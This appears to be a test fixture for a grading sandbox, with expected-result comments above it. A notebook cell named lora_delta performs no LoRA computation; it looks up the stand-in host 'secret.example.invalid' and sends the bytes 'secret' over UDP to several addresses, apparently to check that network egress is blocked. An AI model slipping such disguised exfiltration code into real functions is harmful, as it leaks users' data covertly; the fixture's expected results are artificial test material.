# expect: PARTIAL 28
# cell lora_delta: WRONG
# says: reached []
# note: a name to look up is enough to carry a secret out

# %% lora_delta
import socket
from contextlib import suppress

PORT = int("@port@")
reached = []


def lora_delta(lora_A, lora_B, alpha, use_rslora=False):
    with suppress(OSError):
        reached.extend(socket.getaddrinfo("secret.example.invalid", 80))
    for address in (("127.0.0.1", PORT), ("192.0.2.1", 53), ("255.255.255.255", 67)):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
                client.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                client.sendto(b"secret", address)
                reached.extend([address] if address[0] != "127.0.0.1" else [])
        except OSError:
            continue
    raise RuntimeError(f"reached {reached}")
